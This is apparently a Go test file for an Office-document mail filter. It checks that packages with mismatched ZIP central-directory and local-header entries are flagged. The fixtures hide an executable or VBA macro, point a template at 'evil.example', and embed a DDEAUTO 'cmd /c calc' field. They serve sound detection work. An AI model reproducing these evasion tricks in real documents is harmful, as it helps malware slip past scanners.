package ooxml

import (
	"archive/zip"
	"bytes"
	"context"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/officemilter/officemilter/inspect"
	"github.com/officemilter/officemilter/inspect/internal/zipx"
	"github.com/officemilter/officemilter/inspect/internal/zipx/zipxtest"
)

// TestViews checks packages whose central directory and local headers
// disagree (patched after archive/zip wrote them): the disagreement is
// reported, and what only the local headers show is inspected as a
// member of the central view would be.
func TestViews(t *testing.T) {
	exe := peHead()
	vba := oleMagic + strings.Repeat("\x00", 504)
	const amb = "ambiguous|"
	localOnly := func(b []byte, name string) string {
		return fmt.Sprintf("%sentry only in the local headers at offset %d (local header view)|%s", amb, zipxtest.Find(t, b).Locals[name], name)
	}
	hidden := func(files ...zfile) []byte { return docx{extra: files}.build(t) }

	exeDocx := hidden(zfile{name: "word/media/setup.exe", body: exe})
	storedExe := hidden(zfile{name: "word/media/setup.exe", body: exe, method: storeMethod})
	vbaDocx := docx{mainCT: ctDocm, docRels: []rel{{typ: msRel + "vbaProject", target: "vbaProject.bin"}},
		extra: []zfile{{name: "word/vbaProject.bin", body: vba}}}.build(t)
	renamed := hidden(zfile{name: "word/zzzProject.bin", body: vba})
	extRels := hidden(zfile{name: "word/_rels/settings.xml.rels", body: relsXML(rel{typ: "attachedTemplate", target: "http://evil.example/t.dotm", mode: "External"})})
	ddeDocx := docx{extra: []zfile{{name: "word/document2.xml", body: wordDoc(complexField("x", "DDEAUTO cmd ", `"/c calc"`))}},
		overrides: map[string]string{"/word/document2.xml": ctDocx}}.build(t)

	tests := []struct {
		name     string
		pkg      []byte
		want     []string
		children []string
	}{
		{"executable only in the local headers", zipxtest.DropCentral(t, exeDocx, "word/media/setup.exe"),
			[]string{localOnly(exeDocx, "word/media/setup.exe")}, []string{"word/media/setup.exe"}},
		{"stored executable only in the local headers", zipxtest.DropCentral(t, storedExe, "word/media/setup.exe"),
			[]string{localOnly(storedExe, "word/media/setup.exe")}, []string{"word/media/setup.exe"}},
		{"vbaProject.bin only in the local headers", zipxtest.DropCentral(t, vbaDocx, "word/vbaProject.bin"),
			[]string{localOnly(vbaDocx, "word/vbaProject.bin"), "macro|vbaProject.bin|word/vbaProject.bin"}, []string{"word/vbaProject.bin"}},
		{"vbaProject.bin under another name in the central directory", zipxtest.RenameLocal(t, renamed, "word/zzzProject.bin", "word/vbaProject.bin"),
			[]string{amb + `name differs between central directory and local header: "word/zzzProject.bin" vs "word/vbaProject.bin"|word/zzzProject.bin`,
				amb + DetailUnreferenced + "|word/zzzProject.bin", "macro|vbaProject.bin|word/vbaProject.bin"},
			[]string{"word/zzzProject.bin", "word/vbaProject.bin"}},
		{"executable renamed to a picture in the central directory", zipxtest.RenameLocal(t, hidden(zfile{name: "word/media/a.png", body: "CreateObject(1)"}), "word/media/a.png", "word/media/a.vbs"),
			[]string{amb + `name differs between central directory and local header: "word/media/a.png" vs "word/media/a.vbs"|word/media/a.png`,
				amb + DetailUnreferenced + "|word/media/a.png"},
			[]string{"word/media/a.vbs"}},
		{"external template in relationships only in the local headers", zipxtest.DropCentral(t, extRels, "word/_rels/settings.xml.rels"),
			[]string{localOnly(extRels, "word/_rels/settings.xml.rels"), "external-reference|attachedTemplate http://evil.example|word/_rels/settings.xml.rels"}, nil},
		{"DDE field in a main part only in the local headers", zipxtest.DropCentral(t, ddeDocx, "word/document2.xml"),
			[]string{localOnly(ddeDocx, "word/document2.xml"), "active-content|DDE field|word/document2.xml"}, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			rec, err := inspectBytes(t, tt.pkg, inspect.Limits{})
			if err != nil {
				t.Fatalf("Inspect: %v", err)
			}
			rec.CheckInvariants(t)
			if got := rec.Short(); !slices.Equal(got, tt.want) {
				t.Errorf("findings\n got %q\nwant %q", got, tt.want)
			}
			if !slices.Equal(rec.Names(), tt.children) {
				t.Errorf("children %q, want %q", rec.Names(), tt.children)
			}
			for _, c := range rec.Children {
				if c.Name == "word/media/setup.exe" && string(c.Data) != exe {
					t.Errorf("%s: %d bytes, not the member's", c.Name, len(c.Data))
				}
			}
		})
	}
}

// TestViewsConsistent checks that the generated packages, which
// archive/zip writes consistently, have no ambiguity.
func TestViewsConsistent(t *testing.T) {
	for name, b := range seedPackages(t) {
		rec, err := inspectBytes(t, b, inspect.Limits{})
		if err != nil {
			continue // the seeds include broken packages
		}
		for _, f := range rec.Findings {
			if f.Kind == inspect.KindAmbiguous && f.Detail != DetailUnreferenced {
				t.Errorf("%s: %+v", name, f)
			}
		}
	}
}

// BenchmarkViews reads the package views of BenchmarkOOXML's packages the
// way the engine has the inspector do it (the central directory already
// read by sniffing): what reading the local headers adds to an inspection.
func BenchmarkViews(b *testing.B) {
	files := benchPackages(b)
	parts := make([]inspect.Part, 0, len(files))
	for _, c := range files {
		zr, err := zip.NewReader(bytes.NewReader(c), int64(len(c)))
		if err != nil {
			continue
		}
		parts = append(parts, inspect.Part{Size: int64(len(c)), R: bytes.NewReader(c), Zip: zr})
	}
	b.ReportAllocs()
	lim := inspect.Limits{}.WithDefaults()
	for b.Loop() {
		for _, p := range parts {
			if _, err := zipx.OpenPackage(context.Background(), p, lim); err != nil {
				b.Fatal(err)
			}
		}
	}
}
